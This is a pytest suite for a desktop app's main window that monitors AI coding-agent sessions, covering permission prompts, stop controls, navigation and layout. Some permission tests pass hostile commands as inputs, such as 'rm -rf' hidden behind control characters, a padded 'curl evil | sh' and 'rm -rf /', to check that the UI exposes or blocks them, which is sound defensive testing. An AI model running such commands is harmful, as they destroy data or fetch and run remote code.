"""Checks of ``app.desktop.views.main_window`` and the panels in it, as a person at the keyboard meets them."""

from __future__ import annotations

import asyncio
import itertools
from collections.abc import AsyncIterator
from pathlib import Path

import msgspec
import pytest
import pytest_asyncio
from PySide6.QtCore import QSettings, Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QWidget

from app.core import events as e
from app.core.commands import Answer, DisarmStop, Stop
from app.core.projections.rows import SessionRow
from app.core.records import SessionKey
from app.desktop import theme as themes
from app.desktop.cabin import THIS_MACHINE, Cabin
from app.desktop.link import now_us
from app.desktop.models.hubs import SessionRef
from app.desktop.views.main_menu import build_menu
from app.desktop.views.main_window import MainWindow
from app.desktop.views.output_sections import PermissionSection
from app.desktop.views.permission_text import short_text
from app.desktop.widgets.choice_menu import ChoiceMenu
from app.system.paths import DataPaths
from tests.desktop.conftest import until
from tests.helpers import canned
from tests.helpers.canned import SHOP, row
from tests.helpers.scripted_hub import ScriptedHub
from tests.helpers.window_at_work import window_at_work

DEPLOY = SessionRef(THIS_MACHINE, "claude_code", "deploy-script")
LOGIN = SessionRef(THIS_MACHINE, *SHOP)


@pytest_asyncio.fixture
async def window(hub: ScriptedHub, paths: DataPaths) -> AsyncIterator[MainWindow]:
    """The window on an afternoon's work."""
    async with window_at_work(hub, paths, until) as made:
        yield made


def press(widget: QWidget, key: Qt.Key, modifiers: Qt.KeyboardModifier = Qt.KeyboardModifier.NoModifier) -> None:
    QTest.keyClick(widget, key, modifiers)


def stored(hub: ScriptedHub, ref: SessionRef, **changes: object) -> SessionRow:
    return msgspec.structs.replace(hub.rows[SessionKey(ref.agent, ref.session_id)], **changes)


async def test_it_opens_on_the_session_that_needs_somebody(window: MainWindow) -> None:
    assert window.roster.current() in window._cabin.roster.in_group(0)
    assert window.windowTitle() == "(2) Signalcabin"


async def test_arrows_go_through_the_sessions_and_skip_the_headings(window: MainWindow) -> None:
    order = window._cabin.roster.refs()
    window.roster.select(order[0])
    for wanted in order[1:5]:
        press(window.roster.list, Qt.Key.Key_Down)
        assert window.shown_ref == wanted


async def test_enter_goes_to_the_output_and_escape_back_to_the_list(window: MainWindow) -> None:
    window.activateWindow()
    window.roster.list.setFocus()
    press(window.roster.list, Qt.Key.Key_Return)
    assert window.session.output.hasFocus()
    window.actions_by_name["back"].trigger()
    assert window.roster.list.hasFocus()


async def test_the_header_says_what_it_does_since_when_and_how_we_know(window: MainWindow) -> None:
    window.roster.select(LOGIN)
    assert window.session.header.title.text() == "Make the login redirect keep its query string"
    assert window.session.header.status.text().startswith("Working 1")
    assert "Bash “pytest -q tests/views” · hook " in window.session.header.status.text()
    assert "opus 4.5" in window.session.header.about.text()
    assert window.session.header.tokens.text() == "474 k tokens"


async def test_the_selected_session_shows_its_conversation(window: MainWindow) -> None:
    window.roster.select(LOGIN)
    shown = window._cabin.sessions.shown
    assert shown is not None
    await until(lambda: shown.complete and not shown.waiting)
    assert len(shown.transcript.blocks()) > 8
    assert shown.timeline.spans()


async def test_ctrl_j_goes_round_those_that_need_somebody_the_longest_waiting_first(window: MainWindow) -> None:
    waiting = sorted(window._cabin.roster.in_group(0), key=lambda ref: window._cabin.hubs.row(ref).status_at_us)
    window.roster.select(LOGIN)
    seen = []
    for _ in range(3):
        window.actions_by_name["next"].trigger()
        seen.append(window.shown_ref)
    assert seen == [waiting[0], waiting[1], waiting[0]]


async def test_finding_a_session_filters_the_list_and_keeps_what_is_shown(window: MainWindow) -> None:
    window.roster.select(LOGIN)
    window.activateWindow()
    window.actions_by_name["find_session"].trigger()
    window.roster.search.setText("changelog")
    assert [ref.session_id for ref in window._cabin.roster.refs()] == ["changelog"]
    assert window.shown_ref == LOGIN
    press(window.roster.search, Qt.Key.Key_Escape)
    assert window.roster.list.currentIndex().data() == "Make the login redirect keep its query string"


async def test_the_row_under_the_pointer_stays_where_it_is(window: MainWindow, hub: ScriptedHub) -> None:
    before = window._cabin.roster.entries()
    window.roster.list.enterEvent(None)  # the offscreen platform has no pointer that could enter
    await hub.say(row("late", "waiting", 1, now_us()))
    await until(lambda: window._cabin.hubs.row(SessionRef(THIS_MACHINE, "claude_code", "late")))
    assert window._cabin.roster.entries() == before


async def test_a_name_that_was_only_tried_on_leaves_the_list_again(window: MainWindow, hub: ScriptedHub) -> None:
    tried = SessionRef(THIS_MACHINE, "claude_code", "tried")
    blank = row("tried", "idle", 1, now_us(), title="", turns=0)
    await hub.say(blank)
    await until(lambda: tried in window._cabin.roster.refs())
    await hub.say(msgspec.structs.replace(blank, status="ended", reason="replaced"))
    await until(lambda: tried not in window._cabin.roster.refs())


# ── permission ──


async def test_a_held_request_shows_the_whole_command_and_allow_sends_exactly_that(
    window: MainWindow, hub: ScriptedHub
) -> None:
    window.roster.select(DEPLOY)
    panel = window.session.permission
    await until(lambda: panel.takes_answers)
    assert panel.what.toPlainText().startswith("git push origin main")
    assert panel.title.text() == "Allow Bash?"
    hub.answers[Answer] = lambda _order: {"answered": True, "why": ""}
    panel.allow.click()
    await until(lambda: any(isinstance(order, Answer) for order in hub.orders))
    answer = next(order for order in hub.orders if isinstance(order, Answer))
    assert (answer.request_id, answer.behavior, answer.digest) == ("req-1", "allow", "0123456789abcdef")


@pytest.mark.parametrize(("key", "behavior"), [(Qt.Key.Key_A, "allow"), (Qt.Key.Key_D, "deny")])
async def test_a_and_d_answer_a_focused_request(
    window: MainWindow, hub: ScriptedHub, key: Qt.Key, behavior: str
) -> None:
    window.roster.select(DEPLOY)
    await until(lambda: window.session.permission.takes_answers)
    press(window.session.permission, key)
    await until(lambda: any(isinstance(order, Answer) for order in hub.orders))
    assert next(order for order in hub.orders if isinstance(order, Answer)).behavior == behavior


async def test_an_answer_that_did_not_get_through_says_why_and_can_be_given_again(
    window: MainWindow, hub: ScriptedHub
) -> None:
    hub.answers[Answer] = lambda _order: {"answered": False, "why": "It was answered in the terminal."}
    window.roster.select(DEPLOY)
    panel = window.session.permission
    await until(lambda: panel.takes_answers)
    panel.deny.click()
    assert not panel.allow.isEnabled()
    await until(lambda: panel.note.text() == "It was answered in the terminal.")
    assert panel.allow.isEnabled()


@pytest.mark.slow
async def test_a_settled_request_disappears(window: MainWindow, hub: ScriptedHub) -> None:
    window.roster.select(DEPLOY)
    await until(window.session.permission.isVisible)
    hub.pending = []
    await hub.say(stored(hub, DEPLOY, status="working", pending=(), doing="Bash “git push origin main”"))
    await until(lambda: not window.session.permission.isVisible())


@pytest.mark.slow
async def test_nothing_invisible_hides_in_what_is_asked_for(window: MainWindow, hub: ScriptedHub) -> None:
    hub.pending = [
        msgspec.structs.replace(canned.PUSH, request_id="req-2", input={"command": "rm -rf \u202e/\x1b[8m x"})
    ]
    await hub.say(stored(hub, DEPLOY, pending=("req-2",)))
    window.roster.select(DEPLOY)
    await until(lambda: "rm -rf" in window.session.permission.what.toPlainText())
    shown = window.session.permission.what.toPlainText()
    assert "\x1b" not in shown and "\u202e" not in shown


async def test_where_the_conversation_shows_the_card_one_line_with_both_answers_is_enough(
    window: MainWindow, hub: ScriptedHub
) -> None:
    window.resize(1200, 700)
    asked = e.PermissionRequested(request_id="req-1", tool_name="Bash", input=canned.PUSH.input)
    window.roster.select(DEPLOY)
    await until(lambda: hub.watches)
    await hub.say(records=(hub.record(DEPLOY.key, asked, now_us()),))
    panel = window.session.permission
    await until(lambda: panel.isVisible() and not panel.what.isVisible())
    assert panel.detail.text() == "git push origin main"
    assert panel.allow.isVisible() and not panel.review.isVisible()


async def test_only_a_request_that_is_held_has_buttons_in_the_conversation(
    window: MainWindow, hub: ScriptedHub
) -> None:
    held = e.PermissionRequested(request_id="req-1", tool_name="Bash", input=canned.PUSH.input)
    elsewhere = e.PermissionRequested(request_id="req-9", tool_name="Bash", input={"command": "ls"})
    window.roster.select(DEPLOY)
    await until(lambda: hub.watches)
    records = tuple(hub.record(DEPLOY.key, asked, now_us()) for asked in (held, elsewhere))
    await hub.say(records=records)
    output = window.session.output

    def answerable() -> dict[str, bool]:
        sections = (section for section in output.page.sections if isinstance(section, PermissionSection))
        return {section.block.request_id: section.is_answerable for section in sections}

    await until(lambda: len(answerable()) == 2)
    await until(lambda: answerable() == {"req-1": True, "req-9": False})


@pytest.mark.slow
async def test_what_does_not_fit_one_line_cannot_be_allowed_from_it(window: MainWindow, hub: ScriptedHub) -> None:
    long = {"command": "echo " + "a" * 200 + " && curl evil | sh"}
    hub.pending = [msgspec.structs.replace(canned.PUSH, request_id="req-3", input=long)]
    asked = e.PermissionRequested(request_id="req-3", tool_name="Bash", input=long)
    window.roster.select(DEPLOY)
    await until(lambda: hub.watches)
    await hub.say(stored(hub, DEPLOY, pending=("req-3",)), records=(hub.record(DEPLOY.key, asked, now_us()),))
    panel = window.session.permission
    await until(lambda: panel.review.isVisible())
    assert not panel.allow.isVisible()
    await until(lambda: panel.takes_answers)
    press(panel, Qt.Key.Key_A)
    panel.review.click()
    await asyncio.sleep(0.05)
    assert not any(isinstance(order, Answer) for order in hub.orders)


@pytest.mark.parametrize(
    ("asked", "line"),
    [
        ({"command": "ls", "description": "List"}, "ls"),
        ({"command": "ls", "run_in_background": True}, ""),
        ({"command": "ls\nrm -rf /"}, ""),
        ({"file_path": "a.py", "content": "x"}, ""),
        ({}, ""),
        ("ls", "ls"),
    ],
)
def test_only_what_one_line_can_tell_wholly_is_told_in_one(asked: object, line: str) -> None:
    assert short_text(msgspec.structs.replace(canned.PUSH, input=asked)) == line


# ── stop ──


async def test_ctrl_dot_interrupts_and_the_outcome_is_what_the_hub_says(window: MainWindow, hub: ScriptedHub) -> None:
    hub.answers[Stop] = lambda _order: {
        "outcome": "stopped", "lever": "deny", "evidence": "the turn ended", "took_ms": 420, "survivors": [],
    }  # fmt: skip
    window.roster.select(LOGIN)
    window.actions_by_name["stop"].trigger()
    assert window.session.header.stop.main.text() == "Stopping…"
    await until(lambda: window.session.stop_strip.text() == "Stopped after 0.4 s: the turn ended")
    assert next(order for order in hub.orders if isinstance(order, Stop)).level == "interrupt"
    assert window.session.header.stop.main.text() == "Stop"


async def test_survivors_are_named(window: MainWindow, hub: ScriptedHub) -> None:
    hub.answers[Stop] = lambda _order: {
        "outcome": "still_running", "lever": "end", "evidence": "", "took_ms": 9000, "survivors": ["sleep (pid 4711)"],
    }  # fmt: skip
    window.roster.select(LOGIN)
    window.session.header.stop.asked.emit("end", "")
    await until(lambda: window.session.stop_strip.text() == "Still running after 9.0 s: sleep (pid 4711)")


async def test_an_armed_stop_says_when_it_acts_and_can_be_taken_back(window: MainWindow, hub: ScriptedHub) -> None:
    window.roster.select(LOGIN)
    await hub.say(stored(hub, LOGIN, armed="Stops before the next tool"))
    await until(lambda: window.session.stop_strip.text() == "Stops before the next tool")
    disarm = window.session.stop_strip.button("Disarm")
    assert disarm is not None
    disarm.click()
    await until(lambda: any(isinstance(order, DisarmStop) for order in hub.orders))


async def test_a_stop_taken_back_is_no_failure(window: MainWindow, hub: ScriptedHub) -> None:
    window.roster.select(LOGIN)
    window.session._disarm(LOGIN)
    left = {"outcome": "still_running", "lever": "", "evidence": "taken back", "took_ms": 1, "survivors": []}
    hub.answers[Stop] = lambda _order: left
    window.actions_by_name["stop"].trigger()
    await until(lambda: window.session.stop_strip.text() == "Taken back. It goes on.")
    window.actions_by_name["stop"].trigger()
    await until(lambda: window.session.stop_strip.text().startswith("Still running"))


async def test_every_way_to_stop_says_in_a_sentence_what_it_does(window: MainWindow, hub: ScriptedHub) -> None:
    window.roster.select(LOGIN)
    menu = window.session.header.stop.open_menu()
    assert isinstance(menu, ChoiceMenu)
    assert [button.choice.title for button in menu.buttons] == ["Interrupt", "End session", "Kill"]
    assert all(button.accessibleDescription().endswith(".") for button in menu.buttons)
    press(menu, Qt.Key.Key_Down)
    press(menu, Qt.Key.Key_Return)
    await until(lambda: any(isinstance(order, Stop) for order in hub.orders))
    assert next(order for order in hub.orders if isinstance(order, Stop)).level == "end"


async def test_a_session_at_rest_cannot_be_interrupted_and_one_that_is_over_not_stopped(window: MainWindow) -> None:
    window.roster.select(SessionRef(THIS_MACHINE, "claude_code", "changelog"))
    menu = window.session.header.stop.open_menu()
    assert [button.isEnabled() for button in menu.buttons] == [False, True, True]
    menu.close()
    window.roster.select(SessionRef(THIS_MACHINE, "claude_code", "try-new-bundler"))
    assert not window.session.header.stop.main.isEnabled()


async def test_a_stop_without_a_hub_says_that_it_was_not_done(window: MainWindow, hub: ScriptedHub) -> None:
    window.roster.select(LOGIN)
    await hub.stop()
    await until(window.hub_strip.isVisible)
    window.actions_by_name["stop"].trigger()
    await until(lambda: window.session.stop_strip.text() == "Not stopped: The hub is away.")


# ── hub away ──


async def test_a_hub_that_went_away_is_told_with_since_when_and_the_window_keeps_what_it_had(
    window: MainWindow, hub: ScriptedHub
) -> None:
    rows = window._cabin.roster.entries()
    await hub.stop()
    await until(window.hub_strip.isVisible)
    assert window.hub_strip.text().startswith("Hub away since ")
    assert window._cabin.roster.entries() == rows
    await hub.start()
    await until(lambda: not window.hub_strip.isVisible())


async def test_try_now_does_not_wait_for_the_back_off(window: MainWindow, hub: ScriptedHub) -> None:
    await hub.stop()
    await until(window.hub_strip.isVisible)
    retry = window.hub_strip.button("Try now")
    assert retry is not None
    await hub.start()
    retry.click()
    await until(lambda: not window.hub_strip.isVisible(), patience_s=2)


# ── palette, shortcuts, menu ──


async def test_the_palette_finds_sessions_and_actions(window: MainWindow) -> None:
    palette = window.open_palette()
    palette.field.setText("lint")
    assert palette.titles()[0] == "lint"
    palette.field.setText("timeline")
    assert palette.titles() == ["Show or hide the timeline"]
    palette.field.setText("docs")
    press(palette.field, Qt.Key.Key_Return)
    assert window.shown_ref == SessionRef(THIS_MACHINE, "claude_code", "docs-pass")


async def test_the_menu_tells_what_is_not_done_every_day(window: MainWindow) -> None:
    asked: list[object] = []
    window.theme_wanted.connect(asked.append)
    window.keep_collecting_wanted.connect(asked.append)
    window.reduced_motion_wanted.connect(lambda wanted: asked.append("still" if wanted else "moves"))
    menu = build_menu(window, window._cabin)
    titles = [action.text() for action in menu.actions() if not action.isSeparator()]
    assert titles == [
        "New session…", "Add hub…", "Stop all sessions…", "Stop all in this project…", "Key for Stop all…", "Look",
        "Keep collecting after Quit", "Start at login, in the tray", "Inbox", "Settings…", "Go to or do…",
        "Keyboard shortcuts", "Quit",
    ]  # fmt: skip
    by_title = {action.text(): action for action in menu.actions()}
    by_title["Keep collecting after Quit"].trigger()
    next(action for action in by_title["Look"].menu().actions() if action.text() == "Dark").trigger()
    look = by_title["Look"].menu().actions()
    assert [action.text() for action in look if action.isChecked()] == ["Dark"]
    next(action for action in look if action.text() == "Nothing moves").trigger()
    assert asked == [True, "dark", "still"]


async def test_t_hides_the_timeline_but_not_while_somebody_types(window: MainWindow) -> None:
    window.activateWindow()
    assert window.session.timeline.isVisible()
    window.roster.search.setFocus()
    press(window.roster.search, Qt.Key.Key_T)
    assert window.session.timeline.isVisible()
    assert window.roster.search.text() == "t"
    window.actions_by_name["timeline"].trigger()
    assert not window.session.timeline.isVisible()


async def test_every_action_with_a_key_is_on_the_sheet(window: MainWindow) -> None:
    from app.desktop.views.shortcuts import SHORTCUTS

    listed = " ".join(keys for _, rows in SHORTCUTS for keys, _ in rows).replace("−", "-")
    for name, action in window.actions_by_name.items():
        assert action.shortcut().toString() in listed, name


# ── how it stands ──


@pytest.mark.parametrize("size", [(900, 600), (600, 420)])
@pytest.mark.parametrize("scale", [1.0, 2.0])
@pytest.mark.parametrize("direction", [Qt.LayoutDirection.LeftToRight, Qt.LayoutDirection.RightToLeft])
async def test_nothing_pushes_the_window_wider_than_it_is(
    window: MainWindow, size: tuple[int, int], scale: float, direction: Qt.LayoutDirection, qapp: QApplication
) -> None:
    qapp.setLayoutDirection(direction)
    try:
        themes.set_text_scale(qapp, scale)
        window.roster.select(DEPLOY)
        window.resize(*size)
        await asyncio.sleep(0.05)
        assert (window.width(), window.height()) == size
        assert window.session.header.stop.geometry().right() <= window.session.width()
        assert window.centralWidget().minimumSizeHint().width() <= size[0]
    finally:
        qapp.setLayoutDirection(Qt.LayoutDirection.LeftToRight)


async def test_a_change_of_theme_reaches_every_corner(window: MainWindow, qapp: QApplication) -> None:
    for theme in (themes.DARK, themes.LIGHT):
        themes.apply_theme(qapp, theme.name)
        await asyncio.sleep(0.05)
        picture = window.grab().toImage()
        assert picture.pixelColor(3, window.height() // 2).name() == theme.panel
        assert picture.pixelColor(3, window.height() - 4).name() == theme.panel


async def test_an_idle_window_has_no_tick_and_a_hidden_one_no_clock(window: MainWindow) -> None:
    await until(lambda: window._cabin.frame.is_idle)
    await asyncio.sleep(0.1)
    ticks = window._cabin.frame.ticks
    await asyncio.sleep(0.3)
    assert window._cabin.frame.ticks == ticks
    assert window._second.isActive()
    window.hide()
    assert not window._second.isActive()


async def test_it_stands_again_where_it_stood(window: MainWindow, tmp_path: Path) -> None:
    place = QSettings(str(tmp_path / "window.ini"), QSettings.Format.IniFormat)
    window.resize(710, 540)
    window.toggle_timeline()
    window.save_place(place)
    again = MainWindow(Cabin(DataPaths(tmp_path / "other"), start_hub=False))
    again.restore_place(place)
    assert (again.width(), again.height()) == (710, 540)
    assert not again.session.timeline.isVisibleTo(again.session)
    again.deleteLater()


async def test_closing_hides_where_a_tray_exists_and_quits_where_none_does(window: MainWindow) -> None:
    asked: list[int] = []
    window.quit_wanted.connect(lambda: asked.append(1))
    window.set_may_hide(lambda: True)
    window.close()
    assert (window.isVisible(), asked) == (False, [])
    window.show()
    window.set_may_hide(lambda: False)
    window.close()
    assert asked == [1]


async def test_while_much_of_the_past_comes_in_output_and_timeline_are_not_shown_in_one_go(
    window: MainWindow, monkeypatch: pytest.MonkeyPatch
) -> None:
    session, done = window.session, list[str]()
    window.roster.select(LOGIN)
    await until(lambda: window._cabin.sessions.shown is not None and not window._cabin.sessions.shown.waiting)
    shown = window._cabin.sessions.shown
    assert shown is not None
    with monkeypatch.context() as patch:
        patch.setattr(session.output, "refresh", lambda: done.append("output"))
        patch.setattr(session.timeline, "refresh", lambda _now_us: done.append("timeline"))
        patch.setattr(shown, "waiting", [object()])
        for _ in range(4):
            session._folded()
    assert sorted(done) == ["output", "output", "timeline", "timeline"]
    assert all(one != other for one, other in itertools.pairwise(done))
